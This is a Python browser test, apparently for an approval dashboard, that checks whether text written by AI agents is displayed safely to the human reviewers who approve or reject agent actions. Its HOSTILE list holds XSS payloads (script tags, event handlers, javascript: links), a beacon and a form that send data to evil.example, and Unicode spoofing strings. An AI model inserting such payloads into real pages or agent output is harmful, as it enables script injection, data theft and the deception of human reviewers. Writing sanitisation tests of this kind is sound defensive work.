"""F22: whatever an agent writes is text where people decide: nothing runs, nothing is fetched."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Request, expect

from approvals import queries
from checkpoints import store
from tests.browser import payments
from tests.browser.conftest import People
from tests.browser.house import House
from tests.unit.dashboard import scene

pytestmark = pytest.mark.browser

BIDI, TAGS, ZERO = (
    "pay \u202eRUE 1\u202c \u2066x\u2069",
    "ok\U000e0041\U000e0042",
    "Nord\u200bwind\ufeff",
)
MIXED, SELECTOR = "p\u0430yp\u0430l", "a\ufe01b\U000e0100"
HOSTILE = (
    "<script>window.pwned = 1; fetch('https://evil.example/a')</script>",
    "<img src=https://evil.example/b onerror='window.pwned = 2'>",
    "<svg onload='window.pwned = 3'><a href='javascript:window.pwned=4'>x</a></svg>",
    "[click](javascript:window.pwned=5) ![beacon](https://evil.example/c.png?d=secret)",
    "javascript:window.pwned=6",
    "\"><style>body { display: none }</style><iframe srcdoc='<script>parent.pwned = 7</script>'>",
    "{{ 7 }} {% include 'base.html' %} </textarea></pre></details></article><h1>Approved</h1>",
    "<form action=https://evil.example/d><input name=csrfmiddlewaretoken></form>",
    BIDI,
    TAGS,
    ZERO,
    MIXED,
    SELECTOR,
)
ESCAPES = (
    "U+202E", "U+202C", "U+2066", "U+2069", "U+E0041", "U+E0042", "U+200B", "U+FEFF", "U+0430",
    "U+FE01", "U+E0100",
)  # fmt: skip
LONG = "".join(f"{n:07d} " for n in range(12_500))  # 100,000 characters in one line
RAW = {ord(c) for text in (BIDI, TAGS, ZERO, SELECTOR) for c in text if ord(c) > 0x2000}


@pytest.mark.parametrize("phone", [False, True], ids=["desk", "phone"])
def test_agent_text_is_text(house: House, people: People, phone: bool) -> None:
    agent = store.announce_version(
        agent="<b>agent</b>",
        version=1,
        fingerprint="e" * 64,
        label="<script>window.pwned = 8</script>" + ZERO,
        description="",
        schema_version=1,
        schema=scene.SCHEMA,
        channels=scene.CHANNELS,
        graph=scene.GRAPH,
        tools={},
        queue="nobody",
    )
    args: dict[str, Any] = {f"key {n} {text[:60]}": text for n, text in enumerate(HOSTILE)}
    args |= {"amount": "1" + BIDI, "payee": HOSTILE[1], "iban": HOSTILE[0][:60], "long": LONG}
    row = scene.waiting(
        house.cast.workspace,
        agent,
        args=args,
        tool="<i>tool</i>" + ZERO,
        title=(HOSTILE[0] + MIXED + HOSTILE[1])[:300],
        description="\n".join(HOSTILE) + LONG,
        reasons=(*HOSTILE, LONG),
        undo="<u>undo</u>",
    )
    payments.decide(house, row, "manager", "respond", comment=HOSTILE[0] + HOSTILE[3])
    payments.reply(row, HOSTILE[2] + BIDI)
    screen = people("second_manager", phone=phone)
    requests: list[str] = []

    def note(request: Request) -> None:
        requests.append(request.url)

    screen.page.on("request", note)
    screen.page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    own = urlsplit(house.url).netloc
    # Long JSON is one click away: the whole page is looked at with it.
    for path in (f"/approvals/{row.id}/?exact=1", f"/approvals/{row.id}/edit/"):
        screen.open(path)
        if not path.endswith("edit/"):
            screen.see_live()
        # Everything is opened, and what looks like a link is clicked.
        for fold in screen.page.locator("main details:not(.menu, [open]) > summary").all():
            if fold.is_visible():
                fold.click()
        screen.page.wait_for_timeout(200)
        assert screen.page.evaluate("window.pwned") is None
        foreign = [url for url in requests if urlsplit(url).netloc not in (own, "")]
        assert foreign == []
        links = screen.page.locator("main a").evaluate_all("all => all.map(a => a.protocol)")
        assert set(links) <= {"http:"}
        inside = "main :is(script, iframe, object, embed, style, base, meta, link)"
        expect(screen.page.locator(inside)).to_have_count(0)
        assert screen.page.locator("main img").count() == 0
        assert screen.sideways() == 0
        shown = screen.page.locator("main").inner_text()
        if path.endswith("edit/"):
            continue
        # The reviewer sees what is there: escapes for what could not be seen, and all of the text.
        assert RAW.isdisjoint(map(ord, shown))
        for escape in ESCAPES:
            assert escape in shown, escape
        expect(screen.one(".hidden-chars")).to_contain_text("look-alike characters")
        for text in HOSTILE[:8]:
            assert text in shown, text
        assert LONG.strip() in screen.one("details.exact pre").inner_text()
        for part in ("#reasons", "#approval-main .lead"):
            # A very long text is fetched when it is unfolded.
            expect(screen.one(part)).to_contain_text(LONG[-400:].strip())
            assert "more characters" in screen.one(part).inner_text()
    # What is decided is what was asked: nothing was cleaned on the way.
    assert json.dumps(queries.approval(row.id, workspace=row.workspace).args) == json.dumps(
        row.args
    )
    assert row.args == args
